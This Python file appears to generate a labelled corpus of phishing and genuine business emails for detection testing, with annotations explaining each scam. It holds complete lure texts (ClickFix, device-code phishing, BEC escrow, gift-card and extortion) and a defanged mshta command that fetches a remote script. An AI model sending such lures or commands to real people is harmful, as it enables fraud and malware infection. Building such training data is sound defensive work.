# -*- coding: utf-8 -*-
"""English attack (09-16) and business (09-16) messages."""
from common import *
from lib.infra import (exo, gmail, zoho_eu, vps_postfix, paypal, google_notif, github_notif, mailchimp, microsoft_notif,
                       hexs, alnum, uuid4, postfix_qid, thread_index)
from lib.mime import rfc2822, plus
from lib.cryptoaddr import btc_bech32

ATTACKS, BUSINESS = [], []

# 09 Booking.com guest complaint -> ClickFix
CF_URL = 'https://guest-relations-booking.com/extranet/msg?res=4837261905&hid=3418772'
t09 = """Booking.com | Partner Hub

Dear Partner,

A guest who stayed at Example Alpine Hotel Garmisch (reservation 4837261905, 28 Nov – 1 Dec 2026) has submitted a complaint about a serious issue during their stay and has requested a full refund.

Reported issue: bed bugs in room / skin rash – photos attached by the guest

Please review the guest's message and evidence and respond within 24 hours. If we do not receive a response, the case will be escalated to our Trust & Safety team and may affect your property's visibility in search results.

[View guest message](%s)

You can also open the attached copy of the message.

Kind regards,
Booking.com Customer Service

This e-mail was sent by Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands.""" % CF_URL
h09 = notice_html('Guest complaint – response required within 24 hours', [
    'Dear Partner,',
    'A guest who stayed at Example Alpine Hotel Garmisch (reservation 4837261905, 28 Nov – 1 Dec 2026) has submitted a complaint about a serious issue during their stay and has requested a full refund.',
    'Reported issue: bed bugs in room / skin rash – photos attached by the guest',
    'Please review the guest\'s message and evidence and respond within 24 hours. If we do not receive a response, the case will be escalated to our Trust & Safety team and may affect your property\'s visibility in search results.'],
    button=('View guest message', CF_URL),
    footer=['Kind regards, Booking.com Customer Service', 'This e-mail was sent by Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands.'],
    brand='Booking.com | Partner Hub', color='#003580', lang='en')
clickfix = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Booking.com – Verify you are human</title></head>
<body style="margin:0;background:#f5f5f5;font-family:Arial,Helvetica,sans-serif;">
<div style="background:#003580;color:#fff;padding:14px 24px;font-size:20px;font-weight:bold;">Booking.com</div>
<div style="max-width:520px;margin:50px auto;background:#fff;border:1px solid #ccc;padding:28px;">
<h2 style="margin:0 0 10px 0;font-size:20px;">Verify you are human</h2>
<p style="font-size:14px;color:#333;">To protect guest data, Partner Hub needs to verify that this request comes from a real person before the guest message (reservation 4837261905) is displayed.</p>
<div style="border:1px solid #d0d0d0;background:#f9f9f9;padding:14px;margin:16px 0;">
<p style="margin:0 0 8px 0;font-weight:bold;font-size:14px;">Verification steps</p>
<ol style="font-size:14px;line-height:24px;margin:0;padding-left:20px;">
<li>Press and hold the <b>Windows</b> key and press <b>R</b></li>
<li>In the window that opens, press <b>CTRL + V</b></li>
<li>Press <b>Enter</b> to complete the verification</li>
</ol>
</div>
<p style="font-size:12px;color:#666;">Verification code copied to your clipboard:</p>
<pre style="font-size:12px;background:#eee;padding:8px;white-space:pre-wrap;">mshta hxxps://bkng-verify[.]com/captcha/4837261905   # I am not a robot - reCAPTCHA Verification ID: 7310-2291</pre>
<p style="font-size:11px;color:#999;">reCAPTCHA · Privacy · Terms</p>
</div>
</body></html>
"""
ATTACKS.append(M(
    folder='attack', n=9, lang='en', slug='booking-guest-complaint-clickfix',
    when=('UTC', 2026, 12, 5, 16, 22, 0),
    prof=lambda u, r: vps_postfix(u, r, 'mail.guest-relations-booking.com', 'static.214.87.201.95.clients.your-server.de', '95.201.87.214',
                                  '127.0.0.1', submit_rdns='localhost', auth_user='noreply@guest-relations-booking.com', client_style='script',
                                  domain='guest-relations-booking.com', zone='UTC'),
    frm=('Booking.com', 'noreply@guest-relations-booking.com'), to=[S('sophie.bauer')],
    subject='Guest complaint about your property – reservation 4837261905 – response required within 24h', hcs=('utf-8', 'B'),
    body=lambda c: MIX(c, ALT(c, t09, 'utf-8', 'quoted-printable', html=h09),
                       [ATT(clickfix.encode('utf-8'), 'Guest_Message_4837261905.html', 'text/html', cs='utf-8')]),
    technique='ClickFix (fake CAPTCHA "Win+R, Ctrl+V, Enter") with Booking.com guest-complaint lure',
    what='Fake Booking.com Partner Hub complaint to hotel reservations with a link and an HTML copy of the "message" that shows a fake human-verification asking to paste a command into Win+R.',
    why='Not a booking.com domain, sent from a Hetzner VPS; urgency and ranking threat; the HTML attachment tells the user to run an mshta command from the clipboard (ClickFix; the command is defanged here). Mirrors the 2025 campaigns against hotels.',
    hardneg='business 09'))

# 10 Device-code phishing (Teams pretext) via Zoho from a look-alike domain
t10 = """Hi Hannah,

Hope you're well – good to see you at WTM last week.

I've pulled together the draft allocation for Garmisch and Cortina for winter 27/28 (room blocks, lift-pass bundles and the new ski-school packages) and would like to walk you through it before we send it to our product team on Friday.

Could we do a quick Teams call today at 14:30 UK time? Our IT has moved us onto the new secure guest access for external meetings, so to join you'll need to:

1. Go to https://microsoft.com/devicelogin
2. Enter the meeting code: K7QF2MZXP
3. Sign in with your Example Group account when prompted

The code is only valid for 15 minutes, so please enter it just before 14:30 – I'll be waiting in the meeting.

Best wishes,
James

James Whitfield
Contracts Manager
Alpine Tours Ltd"""
ATTACKS.append(M(
    folder='attack', n=10, lang='en', slug='device-code-phishing-teams-pretext',
    when=('UK', 2026, 11, 12, 10, 4, 0),
    prof=lambda u, r: zoho_eu(u, r, 'alpinetours-uk.com', '45.86.202.11'),
    frm=('James Whitfield', 'james.whitfield@alpinetours-uk.com'), to=[S('hannah.clarke')],
    return_path='james.whitfield@alpinetours-uk.com',
    subject='Winter 27/28 allocation – Teams call today?', hcs=('UTF-8', 'B'),
    body=lambda c: ALT(c, t10, 'UTF-8', 'quoted-printable', style='simple'),
    technique='Device-code phishing (OAuth device authorization grant) with Teams-meeting pretext, look-alike customer domain via Zoho',
    what='"James Whitfield of Alpine Tours" invites to a Teams call and asks to enter a code at microsoft.com/devicelogin.',
    why='Entering the attacker\'s device code at the genuine Microsoft page signs the attacker\'s session in with Hannah\'s account (Storm-2372-style). Teams meetings never need a device code. Look-alike domain alpinetours-uk.com (real: alpinetours.co.uk), sent via Zoho Mail, 15-minute time pressure.',
    hardneg='business 10'))

# 11 PayPal invoice callback phishing (TOAD) through genuine PayPal
t11 = """Billing Department sent you an invoice for £489.99 GBP

Invoice details
Amount requested: £489.99 GBP
Invoice number: INV-0047-NRT360
Due on receipt

Note from seller:
Your PayPal account has been charged £489.99 GBP for Norton 360 Total Protection – annual renewal (5 devices). The amount will be debited within 24 hours. If you did not authorise this renewal, please contact our billing support immediately on +44 20 3807 4419 or +1 (855) 706-2831 to cancel and receive a full refund. Do not pay this invoice online.

[View and Pay Invoice](https://www.paypal.com/invoice/p/#INV2-7QLN-4K9D-HX2M-8RTA)

Don't recognise this invoice?
Report this invoice: https://www.paypal.com/invoice/p/#INV2-7QLN-4K9D-HX2M-8RTA

Before paying, make sure you recognise this invoice. If you don't, report it.

Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.
PayPal RT000221:en_GB(en-GB):1.0.0:a3c57e2f1b9d4"""
h11 = notice_html('Billing Department sent you an invoice for £489.99 GBP', [
    'Amount requested: £489.99 GBP\nInvoice number: INV-0047-NRT360\nDue on receipt',
    'Note from seller:\nYour PayPal account has been charged £489.99 GBP for Norton 360 Total Protection – annual renewal (5 devices). The amount will be debited within 24 hours. If you did not authorise this renewal, please contact our billing support immediately on +44 20 3807 4419 or +1 (855) 706-2831 to cancel and receive a full refund. Do not pay this invoice online.',
    'Don\'t recognise this invoice? [Report this invoice](https://www.paypal.com/invoice/p/#INV2-7QLN-4K9D-HX2M-8RTA)'],
    button=('View and Pay Invoice', 'https://www.paypal.com/invoice/p/#INV2-7QLN-4K9D-HX2M-8RTA'),
    footer=['Copyright © 1999-2026 PayPal, Inc. All rights reserved.', 'PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.',
            'PayPal RT000221:en_GB(en-GB):1.0.0:a3c57e2f1b9d4'],
    brand='PayPal', color='#003087', lang='en')
ATTACKS.append(M(
    folder='attack', n=11, lang='en', slug='paypal-invoice-callback-toad',
    when=('PT', 2026, 11, 24, 2, 13, 0), date_zone='PT',
    prof=lambda u, r: paypal(u, r),
    frm=('service@paypal.com', 'service@paypal.com'), to=[S('priya.shah')],
    return_path='service@paypal.com',
    subject='Invoice from Billing Department (INV-0047-NRT360)', hcs=('UTF-8', 'Q'),
    body=lambda c: ALT(c, t11, 'UTF-8', 'quoted-printable', html=h11),
    technique='Callback phishing / TOAD through a genuine PayPal invoice (abused legitimate service)',
    what='Real PayPal invoice created by an attacker account ("Billing Department") whose seller note claims a £489.99 Norton renewal and gives phone numbers to "cancel".',
    why='Infrastructure and links are genuinely PayPal\'s, so only content shows the fraud: unrelated merchant, fake charge, phone numbers in the seller note, "do not pay online". Calling leads to remote-access / refund scams.',
    hardneg='business 11'))

# 12 Gift-card scam from Gmail impersonating the UK office manager
t12 = """Hi Hannah,

Are you at your desk? I need a quick favour but I'm stuck in back-to-back meetings with the owners' reps and can't take calls.

I'd like to surprise the reservations and chalet team with a small thank-you before the Christmas rush. Could you pick up 8 Apple gift cards at £100 each? Tesco or Boots near the office will have them. Please keep it between us for now, I want it to be a surprise.

Once you have them, scratch the backs and email me clear photos of the codes – I'll sort the reimbursement with Priya this afternoon.

Thanks,
Oliver"""
ATTACKS.append(M(
    folder='attack', n=12, lang='en', slug='gift-card-request-gmail',
    when=('UK', 2026, 12, 9, 9, 18, 0),
    prof=lambda u, r: gmail(u, r, 'hannah.clarke@examplegroup.eu', zone='UK'),
    frm=('Oliver Bennett', 'oliverbennett.examplegroup@gmail.com'), to=[S('hannah.clarke')],
    subject='Quick favour', hcs=('UTF-8', 'B'),
    body=lambda c: ALT(c, t12, 'UTF-8', 'quoted-printable', style='gmail'),
    technique='Gift-card scam (manager impersonation from Gmail)',
    what='"Oliver Bennett" asks a sales colleague to buy £800 in Apple gift cards and e-mail photos of the codes.',
    why='Office manager impersonated from a Gmail account; cannot be phoned; secrecy; gift-card codes sent by e-mail are the classic cash-out.',
    hardneg='business 14'))

# 13 Fake lawyer (stage 2 of attack 01)
t13 = """Dear Ms Krüger,

I am writing on the instructions of Mr Markus Höfer in connection with Project Edelweiss, the proposed acquisition by Example Group GmbH of the entire issued share capital of a ropeway operating company in Tyrol.

As Mr Höfer will have informed you, the vendor has agreed to grant exclusivity until 15 January 2027, subject to a refundable deposit of EUR 386,400.00 being lodged in our client account today. The deposit is held in escrow and will be credited against the purchase price on completion.

Please arrange a same-day transfer to our client account:

Account name: Hastings Brook LLP – Client Account
Bank: Metro Bank PLC, One Southampton Row, London WC1B 5HA
IBAN: %s
BIC: MYMBGB2L
Reference: EDW-0412-EG

Given the price sensitivity of the matter and the confidentiality undertakings given to the vendor, I must ask you not to discuss this transaction with anyone other than Mr Höfer and myself until it is announced. Kindly send me the payment confirmation (MT103) as soon as the transfer has been executed so that I can notify the vendor's counsel before close of business.

Our engagement letter is attached for your records.

Yours sincerely,

Edward Hastings
Partner
Hastings Brook LLP
27 Old Bailey, London EC4M 7HS
T +44 20 7946 0318

Hastings Brook LLP is a limited liability partnership registered in England and Wales (OC438211) and is authorised and regulated by the Solicitors Regulation Authority (SRA ID 648213). This e-mail is confidential and may be legally privileged. If you have received it in error, please notify the sender and delete it. We will never change our bank details by e-mail.""" % fi(BANK['escrow_fraud'])
pdf13 = pdf([('HASTINGS BROOK LLP', 15, True), '27 Old Bailey, London EC4M 7HS', '', 'Private & Confidential', '', 'Example Group GmbH',
             'For the attention of Ms Sabine Krüger, CFO', '', '13 October 2026', '', ('Project Edelweiss – Letter of Engagement', 12, True), '',
             'We confirm that we have been instructed by Example Group GmbH ("the Client") to act in connection with the',
             'proposed acquisition of a ropeway operating company in Tyrol ("the Transaction").', '',
             'Exclusivity deposit: EUR 386,400.00, to be held in our client account pending completion.',
             'Client account: Metro Bank PLC, IBAN ' + fi(BANK['escrow_fraud']) + ', BIC MYMBGB2L', '',
             'This letter and the Transaction are subject to strict confidentiality.', '', 'Edward Hastings, Partner'],
            title='Engagement Letter', author='E. Hastings', producer='Microsoft® Word for Microsoft 365', created="20261013100311+01'00'")
ATTACKS.append(M(
    folder='attack', n=13, lang='en', slug='fake-lawyer-escrow-deposit',
    when=('UK', 2026, 10, 13, 11, 7, 0),
    prof=lambda u, r: vps_postfix(u, r, 'mail.hastingsbrook-llp.com', 'mail.hastingsbrook-llp.com', '159.65.52.118', '194.26.29.115',
                                  auth_user='e.hastings@hastingsbrook-llp.com', domain='hastingsbrook-llp.com', zone='UK', lang='en-gb'),
    frm=('Edward Hastings | Hastings Brook LLP', 'e.hastings@hastingsbrook-llp.com'), to=[S('sabine.krueger')],
    subject='Project Edelweiss – escrow deposit (strictly private & confidential)', hcs=('utf-8', 'B'),
    body=lambda c: MIX(c, ALT(c, t13, 'utf-8', 'quoted-printable', style='outlook', lang='EN-GB'),
                       [ATT(pdf13, 'Engagement_Letter_Project_Edelweiss.pdf', 'application/pdf')]),
    technique='BEC fake lawyer / escrow (stage 2 of CEO fraud 01)',
    what='"London solicitor" instructed by the CEO requests a same-day EUR 386,400 deposit to a UK "client account" and insists on secrecy.',
    why='Continues attack 01 the same morning; unknown law firm on a DigitalOcean droplet; EUR deposit for an Austrian deal sent to a UK retail bank; secrecy from everyone but the "CEO"; same-day deadline; the "we never change bank details by e-mail" disclaimer is decoration.',
    hardneg='business 01'))

# 14 Data-leak extortion with a Bitcoin (bech32) address
BTC14 = btc_bech32('audit104-attack14-shadowpeak')
t14 = """To the management of Example Group,

We have had access to your network for several weeks. Before you read further, check the attached file list. It contains extracts from your reservation system (guest names, passport numbers collected at your Greek and Russian properties, card tokens, booking histories) and from the HR share in Garmisch (payroll exports 2025 and 2026).

In total we hold 214 GB. We have not encrypted anything and have no interest in disrupting your season. This is a business proposal.

Pay 1.85 BTC to the following address within 72 hours of this message:

%s

After payment you will receive proof of deletion and a short report on how we got in.

If you contact the police, the ICO or the Bavarian data protection authority, or if we see you rebuilding your network, the data will be published on our site and sent to your guests, your tour-operator partners and the press. GDPR fines for a breach of this size will cost you far more than our price.

Contact: shadowpeak@onionmail.org

ShadowPeak""" % BTC14
list14 = ("\\\\fs01-gap\\HR\\Lohn\\2026\\Lohnjournal_2026-09.xlsx   412 KB\n"
          "\\\\fs01-gap\\HR\\Lohn\\2025\\Lohnjournal_2025-12.xlsx   398 KB\n"
          "\\\\fs01-gap\\Reservierung\\Export\\guests_2025-26_full.csv   1.2 GB\n"
          "\\\\fs01-gap\\Reservierung\\Export\\passports_GR_RU.zip   3.4 GB\n"
          "\\\\fs01-gap\\Finanzen\\Bank\\Kontoauszuege_2026.zip   88 MB\n"
          "... 41 382 further files\n")
ATTACKS.append(M(
    folder='attack', n=14, lang='en', slug='data-leak-extortion-bitcoin',
    when=('UTC', 2026, 11, 28, 3, 41, 0),
    prof=lambda u, r: custom(('srv01.contabilidadeprime.com.br', 'unknown', '177.54.146.93'),
                             ['from [185.220.101.34] (port=51822 helo=[127.0.0.1])\n\tby srv01.contabilidadeprime.com.br with esmtpa (Exim 4.96.2)\n\t(envelope-from <contato@contabilidadeprime.com.br>)\n\tid 1uNk3Q-0007Xa-1c\n\tfor markus.hoefer@example.com;\n\t%s' % rfc2822(plus(u, 1), 'UTC')],
                             '<%s@onionmail.org>' % alnum(r, 26), tls=False, zone='UTC',
                             extra=[('User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Thunderbird/115.16.0')],
                             bnd=lambda i: '------------' + alnum(r, 24)),
    frm=('ShadowPeak', 'shadowpeak@onionmail.org'), to=[S('markus.hoefer')], cc=[S('lena.vogt')],
    return_path='contato@contabilidadeprime.com.br',
    subject='Example Group – guest and payroll data – 72 hours', hcs=('utf-8', 'B'),
    body=lambda c: MIX(c, T(t14, 'utf-8', '7bit'), [ATT(list14.encode('utf-8'), 'filelist_sample.txt', 'text/plain', cs='utf-8', cte='base64')]),
    technique='Data-theft extortion with Bitcoin (bech32) ransom address',
    what='Extortion claiming theft of guest passports and payroll data, demanding 1.85 BTC within 72 h to ' + BTC14,
    why='Threat + ransom in cryptocurrency; sent unencrypted through a compromised Brazilian accounting-firm server (envelope sender differs from From), submitted via Tor; "proof" is only a plausible-looking file list; forbids contacting authorities.',
    hardneg=None))

# 15 Compromised UK customer: SharePoint OneNote lure, recipients in Bcc
SP15 = 'https://peakschooltrips-my.sharepoint.com/:o:/g/personal/accounts_peakschooltrips_co_uk/EjR7kVq2xLhPm4cN8sTzB1QBq5o3Wm7Yx2uF0aZl9dKc4g?e=Hd8Wq2'
t15 = """Peak School Trips shared a file with you

Please find the remittance advice for the payments released today. Kindly review and confirm receipt.

Remittance Advice - Nov 2026.one

[Open](%s)

This link will work for anyone.

Accounts Team
Peak School Trips Ltd

Microsoft respects your privacy. To learn more, please read our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052""" % SP15
h15 = notice_html('Peak School Trips shared a file with you', [
    'Please find the remittance advice for the payments released today. Kindly review and confirm receipt.',
    'Remittance Advice - Nov 2026.one'],
    button=('Open', SP15), footer=['This link will work for anyone.', 'Microsoft respects your privacy. To learn more, please read our Privacy Statement.',
                                   'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052'],
    brand='Peak School Trips', color='#036c70', lang='en')
ATTACKS.append(M(
    folder='attack', n=15, lang='en', slug='sharepoint-onenote-remittance-compromised-tenant',
    when=('UK', 2026, 11, 19, 15, 2, 0),
    prof=lambda u, r: exo(u, r, 'peakschooltrips.co.uk', lang='en-GB', gb=True),
    frm=('Accounts | Peak School Trips', 'accounts@peakschooltrips.co.uk'), to=[('Accounts | Peak School Trips', 'accounts@peakschooltrips.co.uk')],
    rcpt='priya.shah@example.com',
    subject='Peak School Trips shared "Remittance Advice - Nov 2026" with you', hcs=('utf-8', 'B'),
    body=lambda c: ALT(c, t15, 'utf-8', 'quoted-printable', html=h15),
    technique='Compromised third-party Microsoft 365 tenant: OneNote file on SharePoint/OneDrive as lure, mass Bcc',
    what='Hand-made "shared a file" mail from a compromised school-trip company addressed to itself (recipients in Bcc) linking to a OneNote "remittance advice" in the sender\'s OneDrive.',
    why='Not a regular correspondent; To is the sender itself, victim only in Bcc (mass mailing from a hijacked account); real SharePoint notifications come from no-reply@sharepointonline.com, this one from the user mailbox; OneNote-in-OneDrive with "anyone" link is a common stepping stone to credential phishing; we are not expecting a remittance from them.',
    hardneg='business 16'))

# 16 Guest complaint with password-protected ZIP (ZipCrypto)
t16 = """Hello,

I stayed at your hotel in Garmisch from 6 to 11 December with my wife and our two children (booking under Morgan, made on your website).

I'm sorry to say we were very disappointed. There was black mould on the bathroom ceiling, the heating in the children's room did not work for two nights despite two calls to reception, and on Wednesday my daughter had an asthma attack that I'm fairly sure was caused by the damp. We had to go to the pharmacy in the middle of the night.

I took photos of the room and kept the pharmacy receipt – they are in the attached archive (my phone makes huge files so I zipped them, the password is 1412).

I expect at least a partial refund of the room rate and the pharmacy costs. If I haven't heard back by Friday I will post a detailed review on Tripadvisor and Booking.com.

Regards,
Daniel Morgan"""
zip16 = make_zip([('Room214_photos/IMG_5521.JPG.lnk', PLACEHOLDER, (2026, 12, 14, 20, 41, 12)),
                  ('Room214_photos/Pharmacy_receipt.pdf.lnk', PLACEHOLDER, (2026, 12, 14, 20, 41, 30))],
                 password='1412', seed='attack16')
ATTACKS.append(M(
    folder='attack', n=16, lang='en', slug='guest-complaint-password-zip',
    when=('UK', 2026, 12, 14, 20, 55, 0),
    prof=lambda u, r: gmail(u, r, 'sophie.bauer@example.com', zone='UK'),
    frm=('Daniel Morgan', 'danmorgan.travels@gmail.com'), to=[S('sophie.bauer')],
    subject='Complaint – room 214, stay 6–11 December', hcs=('UTF-8', 'B'),
    body=lambda c: MIX(c, ALT(c, t16, 'UTF-8', 'quoted-printable', style='gmail'),
                       [ATT(zip16, 'Room214_photos.zip', 'application/zip')]),
    technique='Password-protected ZIP (ZipCrypto) with .lnk files behind a guest-complaint pretext',
    what='Emotional guest complaint with an encrypted ZIP (password 1412) containing "IMG_5521.JPG.lnk" and "Pharmacy_receipt.pdf.lnk".',
    why='Password-protected archive defeats scanning; the files are Windows shortcuts with double extensions (a shortcut cannot be a photo or PDF); no matching reservation number; review threat for urgency – the hotel-sector malware pattern.',
    hardneg='business 09'))

# =============================================================================================== BUSINESS
BK_REPLY = 'https://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=3418772&res_id=4719305526&lang=en'
b09 = """Example Alpine Hotel Garmisch

Emily Carter sent you a message

Confirmation number: 4719305526
Check-in: Friday 18 December 2026
Check-out: Tuesday 22 December 2026
Guest: Emily Carter, 2 adults

"Hi! We're coming by train from Munich and will probably only get to Garmisch around 23:30 on the 18th. Is late check-in possible? Also, can we rent skis for two adults at the hotel or is there a shop nearby? Thanks, Emily"

[Reply](%s)

You can reply to the guest directly by replying to this e-mail. Your reply will be sent via Booking.com.

© Copyright Booking.com 2026
This e-mail was sent by Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands""" % BK_REPLY
h09b = notice_html('Emily Carter sent you a message', [
    'Confirmation number: 4719305526\nCheck-in: Friday 18 December 2026\nCheck-out: Tuesday 22 December 2026\nGuest: Emily Carter, 2 adults',
    '"Hi! We\'re coming by train from Munich and will probably only get to Garmisch around 23:30 on the 18th. Is late check-in possible? Also, can we rent skis for two adults at the hotel or is there a shop nearby? Thanks, Emily"',
    'You can reply to the guest directly by replying to this e-mail. Your reply will be sent via Booking.com.'],
    button=('Reply', BK_REPLY), footer=['© Copyright Booking.com 2026', 'This e-mail was sent by Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands'],
    brand='Example Alpine Hotel Garmisch', color='#003580', lang='en')
BUSINESS.append(M(
    folder='business', n=9, lang='en', slug='booking-com-guest-message',
    when=('CE', 2026, 12, 5, 11, 8, 0),
    prof=lambda u, r: custom(('mailout-ams4-214.booking.com', 'mailout-ams4-214.booking.com', '5.57.21.214'),
                             ['from app-mail-9c4f1d.ams4.prod.booking.com (app-mail-9c4f1d.ams4.prod.booking.com [10.196.31.88])\n\tby mailout-ams4-214.booking.com (Postfix) with ESMTP id %s\n\tfor <sophie.bauer@example.com>; %s' % (postfix_qid(plus(u, 1), r), rfc2822(plus(u, 1), 'CE', True))],
                             '<booking.%s.4719305526.%d@booking.com>' % (hexs(r, 16), int(u.timestamp())), order='esp',
                             extra=[('X-Booking-Message-Type', 'guest_to_property'), ('Auto-Submitted', 'auto-generated')],
                             bnd=lambda i: '_----------=_%d%d' % (int(u.timestamp()), 7301 + i)),
    frm=('Emily Carter', '4719305526-guest.mx7k2q@guest.booking.com'), to=[S('sophie.bauer')],
    return_path='bounce-pm-4719305526@mailout.booking.com',
    subject='We received this message from Emily Carter (reservation 4719305526)', hcs=('utf-8', 'B'),
    body=lambda c: ALT(c, b09, 'utf-8', 'quoted-printable', html=h09b),
    technique='-',
    what='Genuine Booking.com guest-message relay: late check-in and ski-rental question.',
    why='Sent from Booking.com\'s own mail infrastructure with a guest.booking.com relay address; links only to admin.booking.com; ordinary request with a real reservation; no attachment or verification step.',
    hardneg='attack 09, attack 16'))

b10 = """Hi Hannah,

I'm afraid I have to raise a formal complaint about the arrival transfers for our group AT-2026-117 (38 pax, arrival Munich Airport, Saturday 31 October).

The coach booked for 13:15 didn't arrive until 15:40 and the driver had no passenger list. Two of our clients missed their ski-fitting slot at your rental shop that evening, and the hotel had already released the dinner seating by the time the group arrived. We've had four written complaints so far and one client is asking for compensation.

Could you please:
1. find out what went wrong with the coach booking,
2. confirm in writing what you can offer the group as a goodwill gesture, and
3. make sure the return transfer on 7 November is reconfirmed, with the driver's mobile number?

I'd appreciate a reply by Thursday so I can get back to the clients before the weekend. Happy to discuss on the phone – my numbers are below.

Kind regards,
James

James Whitfield
Contracts Manager
Alpine Tours Ltd | 14 Chertsey Street, Guildford GU1 4HD
T +44 1483 960 214 | M +44 7700 900 417
www.alpinetours.co.uk"""
BUSINESS.append(M(
    folder='business', n=10, lang='en', slug='tour-operator-transfer-complaint',
    when=('UK', 2026, 11, 3, 16, 25, 0),
    prof=lambda u, r: exo(u, r, 'alpinetours.co.uk', lang='en-GB', gb=True),
    frm=('James Whitfield', 'james.whitfield@alpinetours.co.uk'), to=[S('hannah.clarke')], cc=[S('oliver.bennett')],
    subject='Complaint – arrival transfers Garmisch, group AT-2026-117', hcs=('utf-8', 'B'),
    body=lambda c: ALT(c, b10, 'utf-8', 'quoted-printable', style='exchange'),
    technique='-',
    what='Tour-operator customer complains about a late coach transfer and asks for goodwill and reconfirmation.',
    why='Real customer domain alpinetours.co.uk via its Microsoft 365 tenant; concrete booking facts; invites a phone call; no links or codes.',
    hardneg='attack 10'))

PP_TX = '5KX71942JR803161T'
b11 = """Hello Priya Shah,

You sent a payment of £390.00 GBP to Snowsport Trade Show Ltd

It may take a few moments for this transaction to appear in your account.

Merchant
Snowsport Trade Show Ltd
accounts@snowsporttradeshow.co.uk

Instructions to merchant
2x exhibitor passes – Example Group (stand C14)

Transaction ID: %s
Transaction date: 30 October 2026

Description: Exhibitor registration, Snowsport Trade Show 2027 – 2 passes
Unit price: £195.00 GBP   Qty: 2   Amount: £390.00 GBP
Total: £390.00 GBP

Payment
£390.00 GBP
Funding source: Visa Debit x-4418

[View transaction details](https://www.paypal.com/myaccount/transactions/details/%s)

Issues with this transaction?
You have 180 days from the date of the transaction to open a dispute in the Resolution Centre.

Help & Contact | Security | Apps
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.

Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.
PayPal PPC001017:1.1:a7d2e4f9c1b3""" % (PP_TX, PP_TX)
h11b = notice_html('You sent a payment of £390.00 GBP to Snowsport Trade Show Ltd', [
    'Hello Priya Shah,', 'It may take a few moments for this transaction to appear in your account.',
    'Merchant: Snowsport Trade Show Ltd (accounts@snowsporttradeshow.co.uk)\nInstructions to merchant: 2x exhibitor passes – Example Group (stand C14)',
    'Transaction ID: %s\nTransaction date: 30 October 2026' % PP_TX,
    'Exhibitor registration, Snowsport Trade Show 2027 – 2 passes: £390.00 GBP\nFunding source: Visa Debit x-4418',
    'Issues with this transaction? You have 180 days from the date of the transaction to open a dispute in the Resolution Centre.'],
    button=('View transaction details', 'https://www.paypal.com/myaccount/transactions/details/%s' % PP_TX),
    footer=['PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.',
            'Copyright © 1999-2026 PayPal, Inc. All rights reserved.'], brand='PayPal', color='#003087', lang='en')
BUSINESS.append(M(
    folder='business', n=11, lang='en', slug='paypal-payment-receipt',
    when=('PT', 2026, 10, 30, 6, 20, 0), date_zone='PT',
    prof=lambda u, r: paypal(u, r),
    frm=('PayPal', 'service@paypal.co.uk'), to=[S('priya.shah')], return_path='service@paypal.co.uk',
    subject='Receipt for your payment to Snowsport Trade Show Ltd', hcs=('UTF-8', 'Q'),
    body=lambda c: ALT(c, b11, 'UTF-8', 'quoted-printable', html=h11b),
    technique='-',
    what='Genuine PayPal receipt for two trade-show exhibitor passes paid by the UK accountant.',
    why='PayPal infrastructure, full name of the account holder, expected purchase, links only to paypal.com, no phone numbers or pressure.',
    hardneg='attack 11'))

GA = 'https://accounts.google.com/AccountChooser?Email=hannah.clarke@examplegroup.eu&continue=https://myaccount.google.com/alert/nt/1762420440000?rfn%3D325%26rfnc%3D1%26eid%3D-4127731987701944213%26et%3D0'
b12 = """A new sign-in on Windows

hannah.clarke@examplegroup.eu

We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.

[Check activity](%s)

You can also see security activity at
https://myaccount.google.com/notifications

You received this email to let you know about important changes to your Google Account and services.
© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA""" % GA
h12 = notice_html('A new sign-in on Windows', ['hannah.clarke@examplegroup.eu',
                                                'We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don\'t need to do anything. If not, we\'ll help you secure your account.',
                                                'You can also see security activity at\nhttps://myaccount.google.com/notifications'],
                  button=('Check activity', GA),
                  footer=['You received this email to let you know about important changes to your Google Account and services.',
                          '© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA'],
                  brand='Google', color='#1a73e8', lang='en')
BUSINESS.append(M(
    folder='business', n=12, lang='en', slug='google-new-sign-in-alert',
    when=('PT', 2026, 11, 6, 1, 14, 0), date_zone='UTC',
    prof=lambda u, r: google_notif(u, r, 'hannah.clarke@examplegroup.eu'),
    frm=('Google', 'no-reply@accounts.google.com'), to=[S('hannah.clarke')],
    return_path='3Yv1sawgTCU8lm-pcjwHjlmpbvn.ZlmfpbvZfebmxeXUXF.Wfd@gaia.bounces.google.com',
    subject='Security alert', hcs=('UTF-8', 'B'),
    body=lambda c: ALT(c, b12, 'UTF-8', 'quoted-printable', html=h12),
    technique='-',
    what='Genuine Google "new sign-in on Windows" alert for the Google account used for Google Ads / Business Profile.',
    why='Google notification infrastructure (mail-sor-*.google.com, gaia bounces), links to accounts.google.com / myaccount.google.com only, informational.',
    hardneg=None))

GH = 'https://github.com/password_reset/8d1e6f2c4a7b9e03c5f1d2a8b6e4c09f7a3d5b1e'
b13 = """Hi @tbrandl-eg,

We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following button to reset your password:

[Reset your password](%s)

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team""" % GH
